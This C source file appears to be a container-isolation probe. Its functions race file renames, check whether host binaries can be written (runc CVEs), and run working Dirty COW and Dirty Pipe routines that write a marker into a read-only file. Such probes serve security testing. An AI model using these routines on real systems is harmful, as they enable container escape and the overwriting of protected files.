/* What a tenant's process does while the runtime is at work: swap names under its feet, and lie in wait for what it carries. */
#include "probe.h"
#include <dirent.h>
#include <sys/mman.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>

static double now(void) {
  struct timespec at;
  clock_gettime(CLOCK_MONOTONIC, &at);
  return at.tv_sec + at.tv_nsec / 1e9;
}

/* Exchanges pairs of names as fast as it can. Says how often. */
int swap(double seconds, char **names) {
  unsigned long count = 0;
  for (double end = now() + seconds; now() < end;)
    for (char **one = names; one[0] && one[1]; one += 2)
      if (!renameat2(AT_FDCWD, one[0], AT_FDCWD, one[1], RENAME_EXCHANGE)) count++;
  printf("%lu\n", count);
  return count ? 0 : 1;
}

/*
 * Looks at every process that comes by: does it have the host's file in reach (CVE-2016-9962, CVE-2024-21626), or a program of the host that
 * can be opened for writing now or, held by its path, after it has ended (CVE-2019-5736)? Nothing is written.
 */
int watch(double seconds) {
  extern int host_file(const void *);
  int held[256], holding = 0, looked = 0;
  struct stat root;
  if (stat("/", &root)) return 2;
  for (double end = now() + seconds; now() < end; looked++) {
    if (host_file("file") == 0) return printf("the host's file is in reach\n"), 1;
    DIR *processes = opendir("/proc");
    for (struct dirent *process; processes && (process = readdir(processes));) {
      char path[300];
      struct stat program;
      if (process->d_name[0] < '0' || process->d_name[0] > '9') continue;
      snprintf(path, sizeof path, "/proc/%s/exe", process->d_name);
      if (stat(path, &program) || program.st_dev == root.st_dev) continue;
      int writable = open(path, O_WRONLY);
      if (writable >= 0) return printf("%s of device %u:%u can be written\n", path, major(program.st_dev), minor(program.st_dev)), 1;
      if (holding < 256 && (held[holding] = open(path, O_PATH)) >= 0) holding++;
    }
    if (processes) closedir(processes);
    for (int i = 0; i < holding; i++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      if (open(path, O_WRONLY) >= 0) return printf("a held program can be written\n"), 1;
    }
    if (holding == 256)
      while (holding) close(held[--holding]);
  }
  printf("looked %d times, nothing\n", looked);
  return looked ? 0 : 2;
}

/* Dirty COW (CVE-2016-5195) and Dirty Pipe (CVE-2022-0847) on a file that only can be read. Says whether its pages changed. */
int dirty(const char *path) {
  char before[64], after[64];
  int file = open(path, O_RDONLY), memory = open("/proc/self/mem", O_RDWR), pipes[2];
  if (file < 0 || memory < 0 || pipe(pipes) || pread(file, before, sizeof before, 0) != sizeof before) return 2;
  char *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
  pid_t other = fork();
  for (double end = now() + 0.5; now() < end;)
    for (int i = 0; i < 1000; i++) {
      if (other == 0) madvise(map, 4096, MADV_DONTNEED);
      else if (pwrite(memory, "BERTH", 5, (off_t)(uintptr_t)map) < 0) break;
    }
  if (other == 0) _exit(0);
  waitpid(other, NULL, 0);
  /* fill and drain the pipe, so that its pages may be merged into, then splice the file in and write behind it */
  char page[4096] = "";
  int size = fcntl(pipes[1], F_GETPIPE_SZ);
  for (int i = 0; i < size / 4096; i++)
    if (write(pipes[1], page, sizeof page) < 0) return 2;
  for (int i = 0; i < size / 4096; i++)
    if (read(pipes[0], page, sizeof page) < 0) return 2;
  loff_t offset = 0;
  if (splice(file, &offset, pipes[1], NULL, 1, 0) != 1 || write(pipes[1], "BERTH", 5) != 5) return 2;
  if (pread(file, after, sizeof after, 0) != sizeof after) return 2;
  int changed = memcmp(before, after, sizeof before) != 0;
  puts(changed ? "the file has changed" : "unchanged");
  return changed;
}
